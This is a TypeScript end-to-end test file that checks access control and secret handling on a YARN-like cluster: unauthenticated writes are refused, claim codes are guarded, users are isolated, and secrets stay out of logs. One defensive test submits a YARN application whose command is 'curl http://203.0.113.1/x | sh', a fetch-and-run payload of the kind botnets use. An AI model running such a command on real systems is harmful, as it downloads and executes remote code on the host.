/**
 * Who may do what, tried from outside on a running cluster; and that none of what gives rights is
 * to be found where it should not be.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { freePort, nodeHome, startWorker } from "../../scripts/local-cluster.ts";
import { createHttp } from "../../src/client/http.ts";
import { servicesClient } from "../../src/client/services.ts";
import { startCluster, type TestCluster } from "../support/cluster.ts";
import { containerIds, processOf, sleeper, sleepers } from "../support/containers.ts";
import { processEnvironment, processesNaming } from "../support/processes.ts";
import { waitFor } from "../support/wait-for.ts";

/** What a user would call secret, in a variable of a Yarnfile. */
const PASSWORD = "correct-horse-battery-staple";

const CLAIM_CODE = "the-claim-code-of-a-fresh-cluster";

let cluster: TestCluster;

beforeAll(async () => {
  cluster = await startCluster({ nodes: 1, development: false });
});

afterAll(async () => {
  await cluster.dispose();
});

type Answer = { readonly status: number; readonly body: Record<string, unknown> };

async function ask(method: string, path: string, body?: unknown, url = cluster.url) {
  const response = await fetch(url + path, {
    method,
    ...(body === undefined
      ? {}
      : { body: JSON.stringify(body), headers: { "content-type": "application/json" } }),
  });
  const answer: Answer = {
    status: response.status,
    body: (await response.json()) as Record<string, unknown>,
  };
  return answer;
}

/** `METHOD /path` of every operation that the API describes and that changes something. */
async function writes(): Promise<readonly (readonly [method: string, path: string])[]> {
  const { body } = await ask("GET", "/openapi.json");
  return Object.entries(body["paths"] as Record<string, object>).flatMap(([path, operations]) =>
    Object.keys(operations)
      .filter((method) => ["post", "put", "delete", "patch"].includes(method))
      .map((method) => [method.toUpperCase(), path.replaceAll(/\{\w+\}/g, "hello")] as const),
  );
}

describe("a stranger", () => {
  it("cannot run a command by YARN's two steps, as botnets try", async () => {
    const first = await ask("POST", "/ws/v1/cluster/apps/new-application");
    expect(first).toMatchObject({ status: 401, body: { RemoteException: {} } });
    expect(JSON.stringify(first.body)).not.toContain("application-id");
    const second = await ask("POST", "/ws/v1/cluster/apps", {
      "application-id": "application_1503963985568_0001",
      "application-name": "get-shell",
      "application-type": "YARN",
      "am-container-spec": { commands: { command: "curl http://203.0.113.1/x | sh" } },
    });
    expect(second.status).toBe(401);
    expect((await cluster.cluster.applications()).map(({ id }) => id)).toEqual([]);
  });

  it("is answered 401 on everything that changes anything", async () => {
    const all = await writes();
    expect(all.length).toBeGreaterThanOrEqual(8);
    for (const [method, path] of all) {
      if (path === "/ws/v1/security/claim") continue;
      expect(await ask(method, path, {}), `${method} ${path}`).toMatchObject({ status: 401 });
    }
    for (const path of ["/app/v1/services/x/anything", "/registry/v2/users", "/"]) {
      expect((await ask("PUT", path, {})).status, `PUT ${path}`).toBe(401);
    }
  });

  it("reads neither services nor nodes, and may not claim a cluster that has an owner", async () => {
    for (const path of ["/app/v1/services", "/ws/v1/cluster/nodes", "/ws/v1/node/connect"]) {
      expect((await ask("GET", path)).status, path).toBe(401);
    }
    const claim = await ask("POST", "/ws/v1/security/claim", { code: "guess", user: "mallory" });
    expect(claim.status).toBe(409);
  });

  it("is not believed to be who ?user.name= says", async () => {
    const answer = await ask("GET", "/app/v1/services?user.name=admin");
    expect(answer.status).toBe(401);
    expect(answer.body["hint"]).toContain("user.name proves nothing");
  });
});

describe("a cluster that belongs to nobody yet", () => {
  it("changes nothing, says how it is claimed, and is claimed with its code alone", async () => {
    const home = mkdtempSync(join(tmpdir(), "selvedge-e2e-"));
    const port = (await freePort("127.0.0.1")) ?? 0;
    const options = { host: "127.0.0.1", port, home, claimCode: CLAIM_CODE, development: true };
    const worker = await startWorker(options);
    const { url } = worker;
    try {
      const launch = () => ask("POST", "/app/v1/services?user.name=ann", sleepers("first"), url);
      const refused = await launch();
      expect(refused.status).toBe(503);
      expect(refused.body["hint"]).toContain(`selvedge login --url ${url} --claim CODE`);
      expect(JSON.stringify(refused.body)).not.toContain(CLAIM_CODE);

      const claim = (code: string) => ask("POST", "/ws/v1/security/claim", { code }, url);
      expect((await claim("a-guess-as-long-as-a-code-would-be")).status).toBe(403);
      expect((await claim(CLAIM_CODE)).status).toBe(200);
      expect((await claim(CLAIM_CODE)).status).toBe(409);
      expect((await launch()).status).toBe(202);

      // Development mode believes who a developer says to be, but never that it is an administrator.
      const join = "/ws/v1/security/join-tokens?user.name=admin";
      const answer = await ask("POST", join, { uses: 1, lifetimeSeconds: 60 }, url);
      expect(answer).toMatchObject({
        status: 403,
        body: { hint: expect.stringContaining("admin") },
      });
    } finally {
      await worker.dispose();
      rmSync(home, { recursive: true, force: true });
    }
    expect(processesNaming(home)).toEqual([]);
  });
});

describe("another user", () => {
  it("neither sees nor touches what is not its own", async () => {
    await cluster.launch(sleepers("private"));
    const { token } = await cluster.security.createToken({ user: "bob", role: "user" });
    const bob = servicesClient(createHttp({ url: cluster.url, token }));
    expect(await bob.list()).toEqual([]);
    await expect(bob.get("private")).rejects.toMatchObject({ failure: { code: "NOT_FOUND" } });
    await expect(bob.destroy("private")).rejects.toMatchObject({ failure: { code: "NOT_FOUND" } });
    const asAdmin = servicesClient(createHttp({ url: cluster.url, token }), "admin");
    await expect(asAdmin.stop("private")).rejects.toMatchObject({
      failure: { code: "PERMISSION_DENIED" },
    });
    expect((await cluster.serviceIs("private", "STABLE")).user).toBe("admin");
  });
});

describe("secrets", () => {
  it("are in no log, on no command line, and in no container that was not given them", async () => {
    const component = sleeper({
      configuration: { env: { DATABASE_PASSWORD: PASSWORD } },
      readiness_check: { type: "PORT", properties: { port: "${PORT.never}" } },
    });
    await cluster.launch({ name: "safe", version: "1", components: [component] });
    const id = await waitFor(
      async () => Object.values(containerIds(await cluster.services.get("safe")))[0],
      { what: "its container" },
    );
    const environment = processEnvironment(await processOf(id));
    expect(environment).toContain(`DATABASE_PASSWORD=${PASSWORD}`);

    const rights = cluster.secrets();
    expect(rights.every((secret) => secret.length >= 32)).toBe(true);
    expect(found(rights, environment.join("\n"))).toEqual([]);
    const all = [...rights, PASSWORD];
    const processes = processesNaming(cluster.home);
    expect(processes.length).toBeGreaterThanOrEqual(4);
    for (const { command } of processes) expect(found(all, command)).toEqual([]);
    const logs = logFiles(cluster.home);
    expect(logs.length).toBeGreaterThanOrEqual(4);
    for (const file of logs) expect(found(all, readFileSync(file, "utf8")), file).toEqual([]);
  });

  it("lie in files that only their owner can read", () => {
    const own = nodeHome(cluster.home, 1);
    expect(statSync(join(own, "credential.json")).mode & 0o777).toBe(0o600);
    for (const folder of ["nm-state", "local", "logs"]) {
      expect(statSync(join(own, folder)).mode & 0o777, folder).toBe(0o700);
    }
    expect(statSync(join(cluster.logDirectory, "worker.log")).mode & 0o777).toBe(0o600);
  });
});

/** Every file below a folder `logs`: of the Worker, the agents and their containers. */
function logFiles(home: string): readonly string[] {
  return readdirSync(home, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.parentPath.includes("/logs"))
    .map((entry) => join(entry.parentPath, entry.name));
}

/** Those of the secrets that the text holds, shortened so that a failure does not show them. */
function found(secrets: readonly string[], text: string): readonly string[] {
  return secrets.filter((secret) => text.includes(secret)).map((secret) => secret.slice(0, 8));
}
